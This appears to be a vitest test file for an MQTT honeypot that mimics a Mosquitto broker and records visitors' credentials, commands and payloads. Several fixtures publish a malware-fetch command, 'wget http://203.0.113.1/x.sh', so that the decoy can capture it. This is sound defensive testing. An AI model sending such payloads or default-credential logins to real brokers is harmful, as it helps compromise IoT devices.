import { execFile, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { freePort } from '../../../test/support/free-port.ts';
import { startDaemon } from '../../../test/support/real-daemon.ts';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { hexOf, holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import { mqttPacket, mqttText } from '../../wire/mqtt-packet.ts';
import { latin1, octets, uint16 } from '../../wire/big-endian.ts';
import { mqtt } from './mqtt.ts';
import { isTopicFilter, matchesTopic } from './topic.ts';

const run = promisify(execFile);
const open = (more: Record<string, string> = {}) =>
  personaWith({
    mqtt: {
      product: 'Mosquitto',
      version: '2.0.11',
      details: { anonymous: 'yes', topics: 'home/hall/temperature=21.5\nhome/door=closed', ...more },
    },
  });

const connectPacket = (level = 4, flags = 2, ...rest: readonly (string | Uint8Array)[]): Uint8Array =>
  mqttPacket(
    1,
    0,
    mqttText(level === 3 ? 'MQIsdp' : 'MQTT'),
    level,
    flags,
    uint16(60),
    ...(level === 5 ? [0] : []),
    mqttText('probe'),
    ...rest.map((part) => (typeof part === 'string' ? mqttText(part) : part)),
  );
const subscribe = (filter: string, five = false): Uint8Array =>
  mqttPacket(8, 2, uint16(7), ...(five ? [0] : []), mqttText(filter), 0);
const publish = (topic: string, payload: string, flags = 0): Uint8Array =>
  mqttPacket(3, flags, mqttText(topic), ...(flags > 1 ? [uint16(9)] : []), payload);
const parts = [
  connectPacket(),
  connectPacket(5),
  connectPacket(3),
  connectPacket(4, 0xc2, 'admin', 'admin'),
  connectPacket(4, 0x06, 'last/will', 'gone'),
  subscribe('#'),
  subscribe('$SYS/#', true),
  publish('home/door', 'open', 1),
  publish('a/b', 'wget http://203.0.113.1/x.sh', 2),
  publish('a/b', 'two', 4),
  octets(connectPacket(), subscribe('#'), publish('home/door', 'open', 3)),
  octets(connectPacket(5), subscribe('a/#', true), mqttPacket(3, 4, mqttText('a/b'), uint16(9), 0, 'x')),
  hexOf('6202 0009'),
  hexOf('c000'),
  hexOf('e000'),
  mqttPacket(10, 2, uint16(3), mqttText('#')),
];

describe('the MQTT decoy', () => {
  it('shows the persona’s retained messages and those of $SYS, and keeps what a visitor retains for that visitor alone', () => {
    const persona = open();
    const first = talk(mqtt, persona, [
      connectPacket(),
      publish('home/door', 'open', 1),
      subscribe('home/+'),
      subscribe('$SYS/broker/version'),
    ]);
    expect(first.text).toContain('home/dooropen');
    expect(first.text).not.toContain('temperature');
    expect(first.text).toContain('mosquitto version 2.0.11');
    const other = talk(mqtt, persona, [connectPacket(), subscribe('#')], { source: '198.51.100.5' });
    expect(other.text).toContain('home/doorclosed');
    expect(other.text).toContain('home/hall/temperature21.5');
    expect(other.text).not.toContain('$SYS');
    const again = talk(mqtt, persona, [connectPacket(), subscribe('#')]);
    expect(again.text).toContain('home/dooropen');
  });

  it('records credentials, will, topics, commands with their addresses, and payloads', () => {
    const { facts, outputs } = talk(mqtt, open(), [
      connectPacket(4, 0xc6, 'last/will', 'gone', 'admin', 'public'),
      publish('cmnd/run', `wget http://203.0.113.1/x.sh;${' '.repeat(64)}`, 2),
    ]);
    expect(facts).toMatchObject([
      { kind: 'auth', user: 'admin', password: 'public', method: 'password', accepted: true },
      { kind: 'command', input: 'CONNECT 3.1.1 client=probe keepalive=60' },
      { kind: 'command', input: 'WILL last/will gone' },
      { kind: 'command', urls: ['http://203.0.113.1/x.sh'] },
    ]);
    expect(outputs.filter((output) => output.do === 'capture')).toMatchObject([{ name: 'cmnd/run' }]);
  });

  it('refuses as Mosquitto does where anonymous visitors are not allowed', () => {
    const persona = open({ anonymous: 'no' });
    expect(Buffer.from(talk(mqtt, persona, [connectPacket()]).text, 'latin1').toString('hex')).toBe(
      '20020005',
    );
    const five = talk(mqtt, persona, [connectPacket(5, 0xc2, 'admin', 'wrong')]);
    expect(Buffer.from(five.text, 'latin1').toString('hex')).toBe('2003008700');
    const [user, password] = persona.login.accepted[0] ?? ['', ''];
    const let_in = talk(mqtt, persona, [connectPacket(4, 0xc2, user, password)]);
    expect(Buffer.from(let_in.text, 'latin1').toString('hex')).toBe('20020000');
  });

  it('gives the same for any split of any bytes', () => {
    holdsForAnyBytes(mqtt, () => open(), parts);
  });

  it('matches topics as the standard’s examples do', () => {
    expect(matchesTopic('sport/tennis/player1/#', 'sport/tennis/player1')).toBe(true);
    expect(matchesTopic('sport/tennis/+', 'sport/tennis/player1/ranking')).toBe(false);
    expect(matchesTopic('+/+', '/finance')).toBe(true);
    expect(matchesTopic('#', '$SYS/monitor/Clients')).toBe(false);
    expect([isTopicFilter('sport/tennis#'), isTopicFilter('sport+'), isTopicFilter('+/tennis/#')]).toEqual([
      false,
      false,
      true,
    ]);
  });

  needTools(['mosquitto_sub', 'mosquitto_pub', 'curl'])(
    'serves mosquitto_sub, mosquitto_pub and curl',
    async () => {
      await using served = await serveDecoy(mqtt, open());
      const at = ['-h', '127.0.0.1', '-p', String(served.port)];
      for (const version of ['31', '311', '5']) {
        const { stdout } = await run('mosquitto_sub', [
          ...at,
          '-V',
          version,
          '-i',
          'x',
          '-t',
          'home/#',
          '-t',
          '$SYS/broker/version',
          '-v',
          '-C',
          '3',
          '-q',
          '1',
        ]);
        expect(stdout.split('\n').sort()).toEqual([
          '',
          '$SYS/broker/version mosquitto version 2.0.11',
          'home/door closed',
          'home/hall/temperature 21.5',
        ]);
        for (const qos of ['0', '1', '2'])
          await run('mosquitto_pub', [
            ...at,
            '-V',
            version,
            '-i',
            'y',
            '-q',
            qos,
            '-t',
            't',
            '-m',
            `${version}-${qos}`,
          ]);
      }
      await run('mosquitto_sub', [...at, '-V', '5', '-i', 'x', '-t', 'nothing', '-W', '1']).catch(() => {});
      const { stdout } = await run('curl', [
        '-s',
        '-m',
        '1',
        `mqtt://127.0.0.1:${served.port}/home/door`,
      ]).catch((error: { stdout: string }) => error);
      expect(stdout).toContain('closed');
      expect(
        served.facts.filter((fact) => fact.kind === 'command' && fact.input.startsWith('PUBLISH t ')),
      ).toHaveLength(9);
      expect(served.errors).toEqual([]);
    },
  );

  needTools(['mosquitto'])('answers byte for byte what Mosquitto answers', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'mosquitto-'));
    const port = await freePort();
    writeFileSync(
      join(folder, 'open.conf'),
      `listener ${port} 127.0.0.1\nallow_anonymous true\nsys_interval 0\n`,
    );
    await using _daemon = await startDaemon(
      spawn('mosquitto', ['-c', join(folder, 'open.conf')], { stdio: 'ignore' }),
      port,
    );
    await using served = await serveDecoy(
      mqtt,
      personaWith({
        mqtt: { product: 'Mosquitto', version: '2.0.11', details: { anonymous: 'yes', topics: 'x=y' } },
      }),
    );
    const exchange = (to: number, bytes: Uint8Array): Promise<string> =>
      new Promise((resolve) => {
        const socket = connect(to, '127.0.0.1', () => socket.write(bytes));
        let text = '';
        socket.on('data', (piece) => (text += piece.toString('hex')));
        socket.on('error', () => {});
        // A ping is the last that is asked; who closes before says so.
        socket.on('close', () => resolve(`${text} closed`));
        setTimeout(() => {
          resolve(text);
          socket.destroy();
        }, 400).unref();
      });
    const ping = hexOf('c000');
    const cases: Record<string, Uint8Array> = {
      'connect 3.1': connectPacket(3),
      'connect 3.1.1': connectPacket(),
      'connect 5': connectPacket(5),
      'with a password': connectPacket(4, 0xc2, 'a', 'b'),
      'password without a user': connectPacket(4, 0x42, 'b'),
      'version 6': connectPacket(6),
      'another protocol': mqttPacket(1, 0, mqttText('MQXX'), 4, 2, uint16(60), mqttText('a')),
      'reserved flag': connectPacket(4, 3),
      'no CONNECT first': ping,
      'a web request': octetsOf('GET / HTTP/1.0\r\n\r\n'),
      'empty id, not clean': mqttPacket(1, 0, mqttText('MQTT'), 4, 0, uint16(60), mqttText('')),
      'empty id in 3.1': mqttPacket(1, 0, mqttText('MQIsdp'), 3, 2, uint16(60), mqttText('')),
      'will with qos 3': connectPacket(4, 0x1e, 'w', 'x'),
      subscribe: octets(connectPacket(), subscribe('a/#')),
      'subscribe 5': octets(connectPacket(5), subscribe('a/#', true)),
      'a bad filter': octets(connectPacket(), subscribe('a#')),
      'a bad filter 5': octets(connectPacket(5), subscribe('a#', true)),
      'publish to oneself': octets(connectPacket(), subscribe('own/+'), publish('own/b', 'hello', 2)),
      'publish qos 1 in 5 to nobody': octets(
        connectPacket(5),
        mqttPacket(3, 2, mqttText('q'), uint16(9), 0, 'x'),
      ),
      'publish qos 2': octets(connectPacket(), publish('two/b', 'hello', 4), hexOf('6202 0009')),
      'publish with a wildcard': octets(connectPacket(), publish('a/#', 'hello', 2)),
      'publish with qos 3': octets(connectPacket(), publish('a/b', 'hello', 6)),
      unsubscribe: octets(connectPacket(), mqttPacket(10, 2, uint16(3), mqttText('zz'))),
      'unsubscribe 5': octets(connectPacket(5), mqttPacket(10, 2, uint16(3), 0, mqttText('zz'))),
      'ping and go': octets(connectPacket(), ping, hexOf('e000')),
      'a second CONNECT': octets(connectPacket(), connectPacket()),
      'a packet of the server': octets(connectPacket(), hexOf('20020000')),
    };
    const answers = await Promise.all(
      // Two clients of one name put each other out.
      Object.entries(cases).map(async ([name, asked], index) => {
        const bytes = octetsOf(latin1(asked).replaceAll('probe', `p${1000 + index}`));
        const [real, decoy] = await Promise.all([exchange(port, bytes), exchange(served.port, bytes)]);
        return [name, real, decoy];
      }),
    );
    expect(answers.map(([name, , decoy]) => `${name}: ${decoy}`)).toEqual(
      answers.map(([name, real]) => `${name}: ${real}`),
    );
    rmSync(folder, { recursive: true });
  });
});
